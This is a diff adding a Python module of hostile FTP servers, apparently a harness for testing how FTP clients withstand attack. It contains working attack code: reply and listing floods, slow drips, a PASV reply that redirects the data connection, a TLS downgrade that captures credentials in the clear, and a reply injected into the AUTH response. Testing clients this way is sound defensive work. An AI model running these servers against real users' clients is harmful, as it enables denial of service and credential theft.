@@ -1,0 +1,183 @@
+"""FTP servers that attack the client that logs in."""
+import socket
+import threading
+
+from hostile import Connection, Gone
+
+LINE = b"-rw-r--r-- 1 ftp ftp 1 Jan 01 2020 "
+
+
+class Server:
+    """One control connection: answers as a server does, except where the attack says otherwise."""
+
+    def __init__(self, connection):
+        self.connection = connection
+        self.peer = connection.peer
+        self.data = None
+
+    def greet(self):
+        self.say(b"220 ready")
+
+    def say(self, line):
+        self.connection.send(line + b"\r\n")
+
+    def serve(self):
+        self.greet()
+        while True:
+            words = self.connection.read_until(b"\r\n").split(b" ", 1)
+            verb = words[0].upper().decode("latin-1")
+            argument = words[1] if len(words) > 1 else b""
+            getattr(self, verb.lower(), self.unknown)(argument)
+
+    def unknown(self, argument):
+        self.say(b"502 no")
+
+    def user(self, argument):
+        self.say(b"331 password")
+
+    def pass_(self, argument):
+        self.say(b"230 in")
+
+    def type(self, argument):
+        self.say(b"200 ok")
+
+    def cwd(self, argument):
+        self.say(b"250 ok")
+
+    def pwd(self, argument):
+        self.say(b'257 "/"')
+
+    def epsv(self, argument):
+        self.data = socket.create_server(("127.0.0.1", 0))
+        self.say(b"229 (|||%d|)" % self.data.getsockname()[1])
+
+    def retr(self, argument):
+        self.transfer(b"", b"x" * 65536)
+
+    def list(self, argument):
+        self.transfer(b"", LINE + b"a\r\n")
+
+    def transfer(self, data, flood=b""):
+        """Sends a file or a listing: `data`, and then `flood` again and again."""
+        self.say(b"150 here it comes")
+        connected, _ = self.data.accept()
+        self.data.close()
+        try:
+            connection = Connection(self.peer, connected)
+            connection.send(data)
+            if flood:
+                connection.flood(flood)
+        except Gone:
+            pass
+        finally:
+            connected.close()
+        self.say(b"226 done")
+
+
+setattr(Server, "pass", Server.pass_)
+
+
+class PreliminaryGreetings(Server):
+    def greet(self):
+        self.connection.flood(b"120 wait\r\n")
+
+
+class PreliminaryReplies(Server):
+    def retr(self, argument):
+        self.connection.flood(b"150 wait\r\n")
+
+
+class PreliminaryDrip(Server):
+    def retr(self, argument):
+        while True:
+            self.connection.drip(b"150 wait\r\n", 0.02)
+
+
+class EndlessReply(Server):
+    def greet(self):
+        self.connection.flood(b"220-more\r\n")
+
+
+class EndlessLine(Server):
+    def greet(self):
+        self.say(b"220 ready")
+        self.connection.flood(b"a" * 65536)
+
+
+class LongNames(Server):
+    def list(self, argument):
+        self.transfer(b"", LINE + b"a" * 16000 + b"\r\n")
+
+
+class EndlessListingLine(Server):
+    def list(self, argument):
+        self.transfer(b"", b"a" * 65536)
+
+
+class EndlessTree(Server):
+    def list(self, argument):
+        names = b"".join(b"drwxr-xr-x 1 ftp ftp 1 Jan 01 2020 d%06d\r\n" % number for number in range(5000))
+        self.transfer(names)
+
+
+class ForeignPassive(Server):
+    def epsv(self, argument):
+        self.say(b"502 no")
+
+    def pasv(self, argument):
+        listener = socket.create_server(("127.0.0.9", 0))
+        port = listener.getsockname()[1]
+
+        def watch():
+            listener.accept()
+            self.peer.leaked("a connection to an address of the server's choice")
+
+        threading.Thread(target=watch, daemon=True).start()
+        self.say(b"227 (127,0,0,9,%d,%d)" % (port >> 8, port & 255))
+
+
+class Plain(Server):
+    """The victim was told to use TLS; whatever it logs in with before, it leaks."""
+
+    def auth(self, argument):
+        self.say(b"502 no TLS here")
+
+    def user(self, argument):
+        self.peer.leaked("the user name in the clear")
+        self.say(b"331 password")
+
+    def pass_(self, argument):
+        self.peer.leaked("the password in the clear")
+        self.say(b"230 in")
+
+
+setattr(Plain, "pass", Plain.pass_)
+
+
+class Injection(Plain):
+    def auth(self, argument):
+        self.say(b"234 go on\r\n230 in already")
+
+
+def listens(server):
+    def run(peer):
+        peer.say("ready", peer.listen(lambda connection: server(connection).serve()))
+
+    return run
+
+
+MODES = {
+    "ftp-preliminary-greetings": listens(PreliminaryGreetings),
+    "ftp-preliminary-replies": listens(PreliminaryReplies),
+    "ftp-preliminary-drip": listens(PreliminaryDrip),
+    "ftp-reply": listens(EndlessReply),
+    "ftp-reply-line": listens(EndlessLine),
+    "ftp-file": listens(Server),
+    "ftp-listing": listens(Server),
+    "ftp-listing-names": listens(LongNames),
+    "ftp-listing-line": listens(EndlessListingLine),
+    "ftp-tree": listens(EndlessTree),
+    "ftp-foreign-passive": listens(ForeignPassive),
+    "ftp-plain": listens(Plain),
+    "ftp-tls-injection": listens(Injection),
+}
